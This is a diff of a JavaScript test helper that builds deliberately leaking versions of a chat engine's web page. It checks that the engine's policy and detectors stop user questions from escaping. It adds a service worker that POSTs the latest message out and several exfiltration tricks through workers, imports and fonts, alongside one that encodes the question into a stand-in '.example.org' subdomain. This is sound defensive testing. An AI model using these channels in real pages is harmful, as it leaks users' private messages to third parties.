@@ -5,12 +5,16 @@ import os from "node:os";
 import path from "node:path";
 import { WEB } from "./server.js";
 
+/** The engine's worker: one file, with all that it imports. */
+const WORKER = "sprat/worker.js";
 const UNSEALED = "sprat/unsealed.js";
 
 /** A copy of the built page that can be altered, and put right again. */
 export class LeakingBuild {
   folder = mkdtempSync(path.join(os.tmpdir(), "sprat-leaking-"));
   #real = new Map();
+  /** @type {Set<string>} */
+  #added = new Set();
 
   constructor() {
     cpSync(WEB, this.folder, { recursive: true });
@@ -25,13 +29,20 @@ export class LeakingBuild {
     writeFileSync(at, code.replace(before, () => after));
   }
 
+  /** Adds a file. @param {string} file @param {string} content */
+  add(file, content) {
+    const at = path.join(this.folder, file);
+    if (existsSync(at)) throw new Error(`there is a ${file} already`);
+    writeFileSync(at, content);
+    this.#added.add(at);
+  }
+
   /**
    * Has the engine run in a worker without a seal: one that the server's policy does not know, with all its functions.
    */
   unseal() {
-    const at = path.join(this.folder, UNSEALED);
-    if (existsSync(at)) return;
-    cpSync(path.join(this.folder, "sprat/worker.js"), at);
+    if (this.#added.has(path.join(this.folder, UNSEALED))) return;
+    this.add(UNSEALED, readFileSync(path.join(this.folder, WORKER), "utf8"));
     this.edit(UNSEALED, "seal(self)", "Promise.resolve(false)");
     this.edit("sprat/start-worker.js", "./worker.js", "./unsealed.js");
   }
@@ -40,7 +51,8 @@ export class LeakingBuild {
   restore() {
     for (const [at, code] of this.#real) writeFileSync(at, code);
     this.#real.clear();
-    rmSync(path.join(this.folder, UNSEALED), { force: true });
+    for (const at of this.#added) rmSync(at);
+    this.#added.clear();
   }
 
   remove() {
@@ -49,6 +61,7 @@ export class LeakingBuild {
 }
 
 const CALL = "const { signal, onAsk = this.#options.onAsk, ...rest } = options;";
+const TAKEN = "takeAway(scope);";
 const ANSWER = "return await current.runtime.chat(ask, line, person, signal, tell);";
 
 /** Runs code in the page whenever a question is asked; `text` is the question. */
@@ -213,6 +226,15 @@ export const LEAKS = {
   },
   "the page's title": { build: onQuestion("document.title = text.slice(0, 60);"), where: /title in page/ },
   "the page's address": { build: onQuestion("history.replaceState(null, '', '#' + encodeURIComponent(text));"), where: /history in page/ },
+  "a service worker that is told": {
+    build(build) {
+      build.add("told.js", `onmessage = ({ data }) => fetch("/v1/told", { method: "POST", body: data });`);
+      build.edit("sprat/sprat.js", CALL, `${CALL}
+        navigator.serviceWorker.register("/told.js").then(() => navigator.serviceWorker.ready)
+          .then(({ active }) => active.postMessage(messages.at(-1).content));`);
+    },
+    where: /^fetch in service_worker/,
+  },
   "the receipt": {
     build: (build) =>
       build.edit("sprat/sprat.js", "yield event;", `if (event.receipt) event.receipt.reason = messages.at(-1).content; yield event;`),
@@ -243,18 +265,35 @@ const TRIES = `
     WebSocket: () => new WebSocket("ws://" + location.host + "/v1/tried?socket=" + said),
     cache: async () => (await caches.open("tried")).add("/v1/tried?cache=" + said),
     Worker: () => new Worker("data:text/javascript,fetch('" + location.origin + "/v1/tried?worker=" + said + "')"),
+    nested: () => new Worker("/sprat/link.js?nested=" + said, { type: "module" }),
+    shared: () => new SharedWorker("/sprat/link.js?shared=" + said, { type: "module" }),
+    service: () => navigator.serviceWorker.register("/sprat/link.js?service=" + said, { type: "module" }),
+    scripts: () => importScripts("/sprat/error.js?scripts=" + said),
+    own: () => import("/sprat/error.js?own=" + said),
+    itself: () => import(location.href + "?itself=" + said),
+    font: () => new FontFace("tried", "url(/tried.woff2?font=" + said + ")").load(),
     module: () => import("data:text/javascript,export default await fetch('" + location.origin + "/v1/tried?module=" + said + "')"),
     another: () => import("https://" + said.slice(0, 20).toLowerCase().replace(/[^a-z0-9]/g, "x") + ".example.org/x.js"),
   };
   for (const way of Object.values(tries)) try { await way(); } catch {}`;
+
+/**
+ * What makes of the engine's worker one that tries everything.
+ *
+ * @param {string[]} [taken] the functions that are taken away from it all the same
+ * @returns {[before: string, after: string][]} edits of its script
+ */
+export const trying = (taken = []) => [
+  [TAKEN, taken.map((name) => `remove(scope, "${name}");`).join(" ")],
+  [ANSWER, `{ ${TRIES} }\n${ANSWER}`],
+];
 
 /** Builds that would leak, if something else did not stand in the way. Nothing may be found. */
 export const STOPPED = {
   "an engine that has been lied to, without a line": lie,
   /** It may use every function there is, and the policy still forbids it to connect. */
   "an engine that tries every way out": (build) => {
-    build.edit("sprat/seal.js", "for (const name of WAYS_OUT) remove(scope, name);", "");
-    build.edit("sprat/worker.js", ANSWER, `{ ${TRIES} }\n${ANSWER}`);
+    for (const [before, after] of trying()) build.edit(WORKER, before, after);
   },
 };
 
